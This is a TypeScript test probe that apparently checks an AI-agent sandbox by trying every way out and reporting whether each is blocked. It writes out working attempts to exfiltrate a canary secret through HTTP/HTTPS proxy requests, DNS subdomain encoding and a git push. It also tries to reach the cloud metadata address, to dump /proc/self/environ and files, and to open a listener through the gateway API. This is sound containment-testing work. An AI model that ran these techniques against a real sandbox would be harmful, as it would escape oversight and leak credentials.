// The acceptance suite's agent: run inside the guest by `bottle launch`, it
// tries every way out it can think of and prints one line per attempt,
// `PROBE {"id","ok","observed"}`, where ok says whether what the guest saw
// is what a sealed bottle must show. The harness adds what only the host can
// see (a server that must have received nothing) and prints the table.
// Everything it needs comes from its environment (agent.env, agent.secrets).
import { spawnSync } from "node:child_process";
import { X509Certificate } from "node:crypto";
import { request as httpRequest } from "node:http";
import { connect as tlsConnect } from "node:tls";
import { createSocket } from "node:dgram";
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, watch, writeFileSync } from "node:fs";
import { connect, createServer, isIPv6 } from "node:net";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { decodeAnswer, encodeQuery, RCODE_NXDOMAIN, rcodeName, type QueryType } from "./dns-wire.js";
import { DIRECT_MARKER, DONE_LINE, ERROR_PREFIX, RESULT_PREFIX, type Step } from "./probe-protocol.js";

const env = (name: string): string => {
  const value = process.env[name];
  if (!value) throw new Error(`probe: ${name} is not set`);
  return value;
};

const TIMEOUT_MS = 5000;
const canary = env("CANARY");
const upstream = env("PROBE_UPSTREAM_IP");
const allowed = env("PROBE_ALLOWED_HOST");
const blocked = env("PROBE_BLOCKED_HOST");
const oldDefault = env("PROBE_OLD_DEFAULT_HOST");
const loopbackPort = Number(env("PROBE_LOOPBACK_PORT"));
const natPort = Number(env("PROBE_NAT_PORT"));
const exposePort = Number(env("PROBE_EXPOSE_PORT"));
const exfilDomain = env("PROBE_EXFIL_DOMAIN");
const syncDir = env("PROBE_SYNC_DIR");
const proxy = new URL(env("HTTP_PROXY"));
const gitUrl = env("PROBE_GIT_URL");
const passthroughHost = env("PROBE_PASSTHROUGH_HOST");
/** An injected secret: the guest's variable holds a placeholder; the base URL is the injector's, for its host. */
const injected = env("INJECTED_KEY");
const injectBase = new URL(env("PROBE_INJECT_BASE_URL"));
/** The test CA that signed the test host's certificate: what a passthrough host's real certificate chains to (the image's roots, in real life). */
const testCa = readFileSync(env("PROBE_TEST_CA"), "utf8");
/** The bottle's CA, as net-up.sh hands it to Node. */
const bottleCa = new X509Certificate(readFileSync(env("NODE_EXTRA_CA_CERTS")));

function report(id: string, ok: boolean, observed: string): void {
  process.stdout.write(`${RESULT_PREFIX}${JSON.stringify({ id, ok, observed })}\n`);
}

/** The default route's gateway, from /proc/net/route (little-endian hex). */
function gateway(): string {
  const line = readFileSync("/proc/net/route", "utf8").split("\n").find((l) => l.split(/\s+/)[1] === "00000000");
  const hex = line?.split(/\s+/)[2];
  if (!hex) throw new Error("probe: no default route");
  return [6, 4, 2, 0].map((i) => parseInt(hex.slice(i, i + 2), 16)).join(".");
}

function resolverAddress(): string {
  const match = /^nameserver\s+(\S+)/m.exec(readFileSync("/etc/resolv.conf", "utf8"));
  if (!match?.[1]) throw new Error("probe: no nameserver in /etc/resolv.conf");
  return match[1];
}

interface HttpAnswer {
  status: number;
  body: string;
}

/** One raw HTTP/1.1 exchange with host:port; the answer, or the error's code. */
function exchange(host: string, port: number, request: string): Promise<HttpAnswer | string> {
  return new Promise((resolve) => {
    const socket = connect({ host, port });
    let data = "";
    const timer = setTimeout(() => finish("timeout"), TIMEOUT_MS);
    function finish(result: HttpAnswer | string): void {
      clearTimeout(timer);
      socket.destroy();
      resolve(result);
    }
    socket.on("connect", () => socket.write(request));
    socket.on("data", (chunk: Buffer) => (data += chunk.toString("latin1")));
    socket.on("error", (error: NodeJS.ErrnoException) => finish(error.code ?? error.message));
    socket.on("end", () => {
      const status = /^HTTP\/1\.[01] ([0-9]{3})/.exec(data);
      finish(status ? { status: Number(status[1]), body: data.slice(data.indexOf("\r\n\r\n") + 4) } : `no HTTP answer (${JSON.stringify(data.slice(0, 60))})`);
    });
  });
}

function viaProxy(method: string, url: string, headers: Record<string, string> = {}, body = ""): Promise<HttpAnswer | string> {
  const lines = [`${method} ${url} HTTP/1.1`, `Host: ${new URL(url).host}`, ...Object.entries(headers).map(([n, v]) => `${n}: ${v}`)];
  if (body) lines.push(`Content-Length: ${Buffer.byteLength(body)}`);
  return exchange(proxy.hostname, Number(proxy.port), `${lines.join("\r\n")}\r\nConnection: close\r\n\r\n${body}`);
}

interface HttpsAnswer extends HttpAnswer {
  /** Who signed the certificate the guest saw. */
  issuer: string;
}

/**
 * One HTTPS/1.1 exchange through the proxy: CONNECT, then TLS verified
 * against Node's roots plus NODE_EXTRA_CA_CERTS (or `ca` alone), then the
 * request. The answer, or what failed.
 */
function httpsViaProxy(method: string, url: string, headers: Record<string, string> = {}, body = "", ca?: string): Promise<HttpsAnswer | string> {
  const target = new URL(url);
  return new Promise((resolve) => {
    const timer = setTimeout(() => resolve("timeout"), TIMEOUT_MS);
    const done = (result: HttpsAnswer | string) => {
      clearTimeout(timer);
      resolve(result);
    };
    const tunnel = httpRequest({ host: proxy.hostname, port: Number(proxy.port), method: "CONNECT", path: `${target.hostname}:443` });
    tunnel.on("error", (error: NodeJS.ErrnoException) => done(error.code ?? error.message));
    tunnel.on("response", (response) => {
      let text = "";
      response.on("data", (chunk: Buffer) => (text += chunk.toString()));
      response.on("end", () => done({ status: response.statusCode ?? 0, body: text, issuer: "" }));
    });
    tunnel.on("connect", (response, socket) => {
      if (response.statusCode !== 200) {
        socket.destroy();
        return done({ status: response.statusCode ?? 0, body: `CONNECT ${response.statusMessage ?? ""}`, issuer: "" });
      }
      const secure = tlsConnect({ socket, servername: target.hostname, ...(ca ? { ca } : {}) });
      let data = "";
      secure.on("error", (error: NodeJS.ErrnoException) => done(`TLS: ${error.code ?? error.message}`));
      secure.on("secureConnect", () => {
        const lines = [`${method} ${target.pathname}${target.search} HTTP/1.1`, `Host: ${target.host}`, ...Object.entries(headers).map(([n, v]) => `${n}: ${v}`), `Content-Length: ${Buffer.byteLength(body)}`];
        // write, not end: a half-closed client is one that went away to pipelock (Go cancels the request).
        secure.write(`${lines.join("\r\n")}\r\nConnection: close\r\n\r\n${body}`);
      });
      secure.on("data", (chunk: Buffer) => (data += chunk.toString("latin1")));
      secure.on("end", () => {
        const status = /^HTTP\/1\.[01] ([0-9]{3})/.exec(data);
        const issuer = secure.getPeerCertificate().issuer;
        const answer = { status: Number(status?.[1] ?? 0), body: data.slice(data.indexOf("\r\n\r\n") + 4), issuer: `O=${issuer?.O ?? ""} CN=${issuer?.CN ?? ""}` };
        done(status ? answer : `no HTTP answer (${JSON.stringify(data.slice(0, 60))})`);
      });
    });
    tunnel.end();
  });
}

/** The bottle CA's subject, as a certificate it signed names its issuer. */
const bottleIssuer = (() => {
  const field = (name: string) => new RegExp(`^${name}=(.*)$`, "m").exec(bottleCa.subject)?.[1] ?? "";
  return `O=${field("O")} CN=${field("CN")}`;
})();

const describe = (answer: HttpAnswer | string): string => (typeof answer === "string" ? answer : `${answer.status} ${answer.body.trim().slice(0, 80)}`);
const isStatus = (answer: HttpAnswer | string, status: number): boolean => typeof answer !== "string" && answer.status === status;

function tcpConnect(host: string, port: number): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect({ host, port, family: isIPv6(host) ? 6 : 4 });
    const timer = setTimeout(() => finish("timeout"), TIMEOUT_MS);
    function finish(result: string): void {
      clearTimeout(timer);
      socket.destroy();
      resolve(result);
    }
    socket.on("connect", () => {
      // gvproxy accepts the guest's SYN before it dials out, then closes when that dial fails.
      socket.once("data", () => finish("connected, and it answered"));
      socket.once("close", () => finish("accepted, then closed with no byte"));
      socket.write(`${DIRECT_MARKER}\r\n\r\n`);
    });
    socket.on("error", (error: NodeJS.ErrnoException) => finish(error.code ?? error.message));
  });
}

function dnsQuery(server: string, name: string, type: QueryType): Promise<ReturnType<typeof decodeAnswer> | string> {
  return new Promise((resolve) => {
    const socket = createSocket("udp4");
    const id = Math.floor(Math.random() * 65535);
    const timer = setTimeout(() => finish("no answer (timeout)"), TIMEOUT_MS);
    function finish(result: ReturnType<typeof decodeAnswer> | string): void {
      clearTimeout(timer);
      socket.close();
      resolve(result);
    }
    socket.on("message", (message) => {
      try {
        const answer = decodeAnswer(message);
        if (answer.id === id) finish(answer);
      } catch (error) {
        finish(`bad answer: ${String(error)}`);
      }
    });
    socket.on("error", (error: NodeJS.ErrnoException) => finish(error.code ?? error.message));
    socket.send(encodeQuery(id, name, type), 53, server);
  });
}

const describeDns = (answer: ReturnType<typeof decodeAnswer> | string): string =>
  typeof answer === "string" ? answer : `${rcodeName(answer.rcode)}${answer.addresses.length ? ` ${answer.addresses.join(",")}` : ""}`;

/** Tells the harness we reached `step` and waits until it answers (it writes `<step>.go`). */
async function handshake(step: Step, detail: object = {}): Promise<string> {
  mkdirSync(syncDir, { recursive: true });
  const go = join(syncDir, `${step}.go`);
  const answered = new Promise<void>((resolve, reject) => {
    const watcher = watch(syncDir, () => existsSync(go) && done());
    const timer = setTimeout(() => done(new Error(`probe: the harness did not answer ${step} within 60 s`)), 60_000);
    function done(error?: Error): void {
      clearTimeout(timer);
      watcher.close();
      if (error) reject(error);
      else resolve();
    }
    if (existsSync(go)) done();
  });
  writeFileSync(join(syncDir, `${step}.ready`), JSON.stringify(detail));
  await answered;
  return readFileSync(go, "utf8");
}

async function main(): Promise<void> {
  const gw = gateway();
  const resolver = resolverAddress();

  // Positive controls first: a bottle that cannot reach its proxy proves nothing.
  const proxyA = await dnsQuery(resolver, "proxy.internal", "A");
  report("proxy-resolves", typeof proxyA !== "string" && proxyA.addresses.includes(gw), describeDns(proxyA));
  const hello = await viaProxy("GET", `http://${allowed}/hello`);
  report("allowed-host", isStatus(hello, 200), describe(hello));

  // Through the proxy.
  const denied = await viaProxy("GET", `http://${blocked}/`);
  report("proxy-not-allowlisted", isStatus(denied, 403), describe(denied));
  const hidden = await viaProxy("GET", `http://${oldDefault}/api/1/envelope/`);
  report("proxy-old-default-host", isStatus(hidden, 403), describe(hidden));
  const literal = await viaProxy("GET", `http://${upstream}/`);
  report("proxy-ip-literal", isStatus(literal, 403), describe(literal));
  const loopback = await viaProxy("GET", `http://127.0.0.1:${loopbackPort}/`);
  report("proxy-host-loopback", isStatus(loopback, 403), describe(loopback));

  // The canary secret to an allowlisted host: pipelock's DLP must block each.
  const base = `http://${allowed}`;
  const inPath = await viaProxy("GET", `${base}/leak/${canary}`);
  report("dlp-path", isStatus(inPath, 403), describe(inPath));
  const inQuery = await viaProxy("GET", `${base}/leak?token=${canary}`);
  report("dlp-query", isStatus(inQuery, 403), describe(inQuery));
  const inHeader = await viaProxy("GET", `${base}/leak`, { "X-Leak": canary });
  report("dlp-header", isStatus(inHeader, 403), describe(inHeader));
  const inBody = await viaProxy("POST", `${base}/leak`, { "Content-Type": "application/json" }, JSON.stringify({ token: canary }));
  report("dlp-body", isStatus(inBody, 403), describe(inBody));

  // HTTPS: pipelock opens it with the bottle's CA, which the guest trusts, so DLP sees inside.
  const httpsBase = `https://${allowed}`;
  const httpsHello = await httpsViaProxy("GET", `${httpsBase}/hello-tls`);
  report(
    "https-intercepted",
    typeof httpsHello !== "string" && httpsHello.status === 200 && httpsHello.issuer === bottleIssuer,
    typeof httpsHello === "string" ? httpsHello : `${describe(httpsHello)}; certificate issued by ${httpsHello.issuer} (the bottle's CA: ${bottleIssuer})`,
  );
  const curl = spawnSync("curl", ["-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}", "--proxy", proxy.href, `${httpsBase}/hello-curl`], { encoding: "utf8" });
  report("https-curl-bundle", curl.stdout === "200", `curl (trusting SSL_CERT_FILE/CURL_CA_BUNDLE=${process.env.CURL_CA_BUNDLE ?? "unset"}): ${curl.stdout || curl.stderr.trim() || curl.error?.message}`);
  const boundary = "bottle-probe-boundary";
  const multipart = [`--${boundary}`, 'Content-Disposition: form-data; name="file"; filename="notes.txt"', "Content-Type: text/plain", "", `notes ${canary}`, `--${boundary}--`, ""].join("\r\n");
  for (const [id, answer] of [
    ["https-dlp-path", await httpsViaProxy("GET", `${httpsBase}/leak/${canary}`)],
    ["https-dlp-query", await httpsViaProxy("GET", `${httpsBase}/leak?token=${canary}`)],
    ["https-dlp-header", await httpsViaProxy("GET", `${httpsBase}/leak`, { "X-Leak": canary })],
    ["https-dlp-body", await httpsViaProxy("POST", `${httpsBase}/leak`, { "Content-Type": "application/json" }, JSON.stringify({ token: canary }))],
    ["https-dlp-multipart", await httpsViaProxy("POST", `${httpsBase}/upload`, { "Content-Type": `multipart/form-data; boundary=${boundary}` }, multipart)],
  ] as const) {
    report(id, isStatus(answer, 403), describe(answer));
  }
  const pinned = await httpsViaProxy("GET", `https://${passthroughHost}/pinned`, {}, "", testCa);
  report(
    "https-passthrough",
    typeof pinned !== "string" && pinned.status === 200 && pinned.issuer !== bottleIssuer,
    typeof pinned === "string" ? pinned : `${describe(pinned)}; certificate issued by ${pinned.issuer} (not opened by pipelock)`,
  );

  // Injected credentials: the guest holds a placeholder; the injector swaps it after pipelock has scanned the request.
  const injectAsk = (path: string, key: string, body = "") =>
    exchange(injectBase.hostname, Number(injectBase.port), [`POST ${injectBase.pathname}${path} HTTP/1.1`, `Host: ${injectBase.host}`, `x-api-key: ${key}`, "Content-Type: application/json", `Content-Length: ${Buffer.byteLength(body)}`, "Connection: close", "", body].join("\r\n"));
  const swapped = await injectAsk("/v1/messages", injected, JSON.stringify({ prompt: "hello" }));
  report("inject-placeholder-swapped", isStatus(swapped, 200) && injected.startsWith("bottle-placeholder."), `${describe(swapped)}; the guest's INJECTED_KEY is a placeholder: ${injected.startsWith("bottle-placeholder.") ? "yes" : "NO"}`);
  const ownKey = await injectAsk("/v1/messages", "sk-own-key-the-agent-made-up-0123456789");
  report("inject-own-key-refused", isStatus(ownKey, 403), describe(ownKey));
  const injectLeak = await injectAsk("/v1/messages", injected, JSON.stringify({ prompt: `remember ${canary}` }));
  report("inject-dlp", isStatus(injectLeak, 403), describe(injectLeak));
  const elsewhere = await httpsViaProxy("GET", `${httpsBase}/placeholder-elsewhere`, { "x-api-key": injected });
  report("inject-placeholder-elsewhere", isStatus(elsewhere, 200), describe(elsewhere));
  // Everything the guest can read that could hold the value: its environment and the writable places. The harness looks for the value in it.
  const dump: Record<string, string> = { "process.env": JSON.stringify(process.env), "/proc/self/environ": readFileSync("/proc/self/environ", "latin1") };
  const walk = (dir: string, depth = 0): void => {
    let entries: string[] = [];
    try {
      entries = readdirSync(dir);
    } catch {
      return;
    }
    for (const entry of entries) {
      const path = join(dir, entry);
      if (path === syncDir) continue;
      try {
        const stat = lstatSync(path);
        if (stat.isDirectory() && depth < 6) walk(path, depth + 1);
        else if (stat.isFile() && stat.size < 4_000_000) dump[path] = readFileSync(path, "latin1");
      } catch {
        // unreadable: not something the agent holds either
      }
    }
  };
  for (const dir of ["/tmp", "/run", "/opt/bottle", "/workspace", "/root", "/home"]) walk(dir);
  writeFileSync(join(syncDir, "guest-dump.json"), JSON.stringify(dump));
  report("inject-guest-never-holds", true, `the guest's environment and ${Object.keys(dump).length - 2} readable file(s) in /tmp, /run, /opt/bottle, /workspace, /root, /home, handed to the harness`);

  // Around the proxy.
  const direct = await tcpConnect(upstream, 80);
  report("direct-tcp", !direct.includes("answered"), direct);
  await new Promise<void>((resolve) => {
    const socket = createSocket("udp4");
    socket.send(`udp-probe ${canary}`, 9999, upstream, (error) => {
      report("direct-udp", true, error ? `send failed: ${error.message}` : "sent (the harness checks it never arrived)");
      socket.close();
      resolve();
    });
  });
  const nat = await tcpConnect(gw, natPort);
  report("gateway-nat-loopback", !nat.includes("answered"), nat);
  const metadata = await tcpConnect("169.254.169.254", 80);
  report("metadata-169.254.169.254", !metadata.includes("answered"), metadata);
  const v6 = await tcpConnect("2001:db8::2", 80);
  report("ipv6", !v6.includes("connected") && !v6.includes("accepted"), v6);

  // DNS.
  const other = await dnsQuery(resolver, allowed, "A");
  report("dns-a-other-name", typeof other !== "string" && other.rcode === RCODE_NXDOMAIN, describeDns(other));
  const label = Buffer.from(canary).toString("hex").slice(0, 60);
  const crafted: string[] = [];
  for (const type of ["TXT", "MX", "AAAA"] as const) {
    crafted.push(`${type} ${describeDns(await dnsQuery(resolver, `${type.toLowerCase()}-${label}.${exfilDomain}`, type))}`);
  }
  report("dns-exfil-non-a", true, crafted.join("; "));
  const directDns = await dnsQuery(upstream, `direct-${label}.${exfilDomain}`, "A");
  report("dns-direct-resolver", typeof directDns === "string", describeDns(directDns));

  // gvproxy's services API on the gateway: ask it to open a listener.
  const server = createServer((socket) => socket.end("exposed guest service\n"));
  await new Promise<void>((resolve) => server.listen(8080, "0.0.0.0", resolve));
  const guestIp = networkInterfaces().tap0?.find((a) => a.family === "IPv4")?.address ?? "";
  const body = JSON.stringify({ local: `127.0.0.1:${exposePort}`, remote: `${guestIp}:8080`, protocol: "tcp" });
  const expose = await exchange(gw, 80, `POST /services/forwarder/expose HTTP/1.1\r\nHost: ${gw}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`);
  report("gateway-api-expose", true, `asked gvproxy to expose ${guestIp}:8080 on 127.0.0.1:${exposePort}: ${describe(expose)}`);
  await handshake("exposed", { port: exposePort });
  server.close();

  // git through the gate: the agent uses the upstream's own URL; the Smolfile's git config sends it to the gate.
  const gitIn = (cwd: string, ...args: string[]) =>
    spawnSync("git", ["-c", "user.name=probe", "-c", "user.email=probe@example.invalid", ...args], { cwd, encoding: "utf8", timeout: 60_000 });
  const describeGit = (run: ReturnType<typeof gitIn>) => `exit ${run.status}${run.stderr.trim() ? `: ${run.stderr.trim().split("\n").map((l) => l.trim()).filter((l) => /remote:|error|fatal|rejected/.test(l)).slice(0, 3).join(" / ")}` : ""}`;
  const clone = gitIn("/tmp", "clone", "--quiet", gitUrl, "/tmp/app");
  report("git-clone", clone.status === 0 && existsSync("/tmp/app/README.md"), describeGit(clone));
  writeFileSync("/tmp/app/ok.txt", "a clean change\n");
  gitIn("/tmp/app", "checkout", "--quiet", "-b", "agent/ok");
  gitIn("/tmp/app", "add", "ok.txt");
  gitIn("/tmp/app", "commit", "--quiet", "-m", "clean");
  const clean = gitIn("/tmp/app", "push", "--quiet", "origin", "agent/ok");
  report("git-push-allowed", clean.status === 0, describeGit(clean));
  writeFileSync("/tmp/app/leak.txt", `token=${canary}\n`);
  gitIn("/tmp/app", "checkout", "--quiet", "-b", "agent/leak");
  gitIn("/tmp/app", "add", "leak.txt");
  gitIn("/tmp/app", "commit", "--quiet", "-m", "leak");
  await handshake("git-secret");
  const leak = gitIn("/tmp/app", "push", "origin", "agent/leak");
  report("git-push-secret", leak.status !== 0 && /remote: git gate: push to origin refused/.test(leak.stderr), describeGit(leak));

  // Live allowlist edit: the harness adds the blocked host and waits for the reload.
  await handshake("edit-allowlist");
  const after = await viaProxy("GET", `http://${blocked}/after-edit`);
  report("live-allowlist-edit", isStatus(after, 200), describe(after));
}

main().then(
  () => process.stdout.write(`${DONE_LINE}\n`),
  (error: unknown) => {
    process.stdout.write(`${ERROR_PREFIX}${error instanceof Error ? error.message : String(error)}\n`);
    process.exitCode = 1;
  },
);
